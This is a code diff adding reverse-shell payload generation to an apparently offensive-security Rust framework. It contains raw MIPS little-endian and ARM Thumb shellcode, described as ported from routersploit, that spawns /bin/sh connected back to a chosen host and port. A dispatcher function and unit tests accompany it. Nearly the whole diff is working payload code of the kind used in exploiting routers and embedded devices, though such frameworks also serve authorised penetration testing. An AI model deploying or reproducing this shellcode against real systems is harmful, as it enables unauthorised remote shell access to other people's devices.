@@ -1,7 +1,8 @@
 // Payload generation module
 
-use anyhow::Result;
+use anyhow::{Result, anyhow};
 use serde::{Deserialize, Serialize};
+use std::net::Ipv4Addr;
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub enum Architecture {
@@ -15,4 +16,149 @@ pub enum Architecture {
     Perl,
 }
 
-// Payload generation will be added here
+/// MIPS little-endian shellcode, ported from routersploit.modules.payloads.mipsle
+pub mod mipsle {
+    use super::*;
+
+    /// Interactive /bin/sh connecting back to `lhost:lport`
+    pub fn reverse_tcp(lhost: Ipv4Addr, lport: u16) -> Vec<u8> {
+        let ip = lhost.octets();
+        let port = lport.to_be_bytes();
+
+        let mut payload = Vec::with_capacity(196);
+        payload.extend_from_slice(&[
+            0xff, 0xff, 0x04, 0x28, // slti    a0,zero,-1
+            0xa6, 0x0f, 0x02, 0x24, // li      v0,4006
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+            0x11, 0x11, 0x04, 0x28, // slti    a0,zero,4369
+            0xa6, 0x0f, 0x02, 0x24, // li      v0,4006
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+            0xfd, 0xff, 0x0c, 0x24, // li      t4,-3
+            0x27, 0x20, 0x80, 0x01, // nor     a0,t4,zero
+            0xa6, 0x0f, 0x02, 0x24, // li      v0,4006
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+            0xfd, 0xff, 0x0c, 0x24, // li      t4,-3
+            0x27, 0x20, 0x80, 0x01, // nor     a0,t4,zero
+            0x27, 0x28, 0x80, 0x01, // nor     a1,t4,zero
+            0xff, 0xff, 0x06, 0x28, // slti    a2,zero,-1
+            0x57, 0x10, 0x02, 0x24, // li      v0,4183
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+            0xff, 0xff, 0x44, 0x30, // andi    a0,v0,0xffff
+            0xc9, 0x0f, 0x02, 0x24, // li      v0,4041
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+            0xc9, 0x0f, 0x02, 0x24, // li      v0,4041
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+        ]);
+        payload.extend_from_slice(&[port[0], port[1], 0x05, 0x3c]); // lui     a1,<port>
+        payload.extend_from_slice(&[
+            0x02, 0x00, 0xa5, 0x34, // ori     a1,a1,0x2
+            0xf8, 0xff, 0xa5, 0xaf, // sw      a1,-8(sp)
+        ]);
+        payload.extend_from_slice(&[ip[2], ip[3], 0x05, 0x3c]); // lui     a1,<ip[2..4]>
+        payload.extend_from_slice(&[ip[0], ip[1], 0xa5, 0x34]); // ori     a1,a1,<ip[0..2]>
+        payload.extend_from_slice(&[
+            0xfc, 0xff, 0xa5, 0xaf, // sw      a1,-4(sp)
+            0xf8, 0xff, 0xa5, 0x23, // addi    a1,sp,-8
+            0xef, 0xff, 0x0c, 0x24, // li      t4,-17
+            0x27, 0x30, 0x80, 0x01, // nor     a2,t4,zero
+            0x4a, 0x10, 0x02, 0x24, // li      v0,4170
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+            0x62, 0x69, 0x08, 0x3c, // lui     t0,0x6962
+            0x2f, 0x2f, 0x08, 0x35, // ori     t0,t0,0x2f2f
+            0xec, 0xff, 0xa8, 0xaf, // sw      t0,-20(sp)
+            0x73, 0x68, 0x08, 0x3c, // lui     t0,0x6873
+            0x6e, 0x2f, 0x08, 0x35, // ori     t0,t0,0x2f6e
+            0xf0, 0xff, 0xa8, 0xaf, // sw      t0,-16(sp)
+            0xff, 0xff, 0x07, 0x28, // slti    a3,zero,-1
+            0xf4, 0xff, 0xa7, 0xaf, // sw      a3,-12(sp)
+            0xfc, 0xff, 0xa7, 0xaf, // sw      a3,-4(sp)
+            0xec, 0xff, 0xa4, 0x23, // addi    a0,sp,-20
+            0xec, 0xff, 0xa8, 0x23, // addi    t0,sp,-20
+            0xf8, 0xff, 0xa8, 0xaf, // sw      t0,-8(sp)
+            0xf8, 0xff, 0xa5, 0x23, // addi    a1,sp,-8
+            0xec, 0xff, 0xbd, 0x27, // addiu   sp,sp,-20
+            0xff, 0xff, 0x06, 0x28, // slti    a2,zero,-1
+            0xab, 0x0f, 0x02, 0x24, // li      v0,4011
+            0x0c, 0x09, 0x09, 0x01, // syscall 0x42424
+        ]);
+        payload
+    }
+}
+
+/// ARM little-endian (Thumb) shellcode, ported from routersploit.modules.payloads.armle
+pub mod armle {
+    use super::*;
+
+    /// Interactive /bin/sh connecting back to `lhost:lport`
+    pub fn reverse_tcp(lhost: Ipv4Addr, lport: u16) -> Vec<u8> {
+        let mut payload = Vec::with_capacity(72);
+        payload.extend_from_slice(&[
+            0x01, 0x10, 0x8f, 0xe2, 0x11, 0xff, 0x2f, 0xe1,
+            0x02, 0x20, 0x01, 0x21, 0x92, 0x1a, 0x0f, 0x02,
+            0x19, 0x37, 0x01, 0xdf, 0x06, 0x1c, 0x08, 0xa1,
+            0x10, 0x22, 0x02, 0x37, 0x01, 0xdf, 0x3f, 0x27,
+            0x02, 0x21, 0x30, 0x1c, 0x01, 0xdf, 0x01, 0x39,
+            0xfb, 0xd5, 0x05, 0xa0, 0x92, 0x1a, 0x05, 0xb4,
+            0x69, 0x46, 0x0b, 0x27, 0x01, 0xdf, 0xc0, 0x46,
+        ]);
+        // struct sockaddr_in: AF_INET, port, address
+        payload.extend_from_slice(&[0x02, 0x00]);
+        payload.extend_from_slice(&lport.to_be_bytes());
+        payload.extend_from_slice(&lhost.octets());
+        payload.extend_from_slice(b"/bin/sh\0");
+        payload
+    }
+}
+
+/// Reverse TCP shell for `arch`, connecting back to `lhost:lport`
+pub fn reverse_tcp(arch: Architecture, lhost: &str, lport: u16) -> Result<Vec<u8>> {
+    let lhost: Ipv4Addr = lhost
+        .trim()
+        .parse()
+        .map_err(|_| anyhow!("Invalid IPv4 address for lhost: {}", lhost))?;
+    if lport == 0 {
+        return Err(anyhow!("lport must be between 1 and 65535"));
+    }
+
+    match arch {
+        Architecture::MIPSLE => Ok(mipsle::reverse_tcp(lhost, lport)),
+        Architecture::ARMLE => Ok(armle::reverse_tcp(lhost, lport)),
+        arch => Err(anyhow!("Reverse TCP payload not available for {:?}", arch)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+        haystack.windows(needle.len()).any(|w| w == needle)
+    }
+
+    #[test]
+    fn test_reverse_tcp_mipsle() {
+        let payload = reverse_tcp(Architecture::MIPSLE, "192.168.1.10", 4444).unwrap();
+        assert_eq!(payload.len(), 196);
+
+        // Port and address halves are patched into lui/ori immediates
+        assert!(contains(&payload, &[0x11, 0x5c, 0x05, 0x3c]));
+        assert!(contains(&payload, &[0x01, 0x0a, 0x05, 0x3c]));
+        assert!(contains(&payload, &[0xc0, 0xa8, 0xa5, 0x34]));
+    }
+
+    #[test]
+    fn test_reverse_tcp_armle() {
+        let payload = reverse_tcp(Architecture::ARMLE, "192.168.1.10", 4444).unwrap();
+        assert_eq!(payload.len(), 72);
+        assert!(contains(&payload, &[0x02, 0x00, 0x11, 0x5c, 192, 168, 1, 10]));
+        assert!(payload.ends_with(b"/bin/sh\0"));
+    }
+
+    #[test]
+    fn test_reverse_tcp_rejects_bad_input() {
+        assert!(reverse_tcp(Architecture::ARMLE, "192.168.1.300", 4444).is_err());
+        assert!(reverse_tcp(Architecture::ARMLE, "::1", 4444).is_err());
+        assert!(reverse_tcp(Architecture::ARMLE, "192.168.1.10", 0).is_err());
+        assert!(reverse_tcp(Architecture::X64, "192.168.1.10", 4444).is_err());
+    }
+}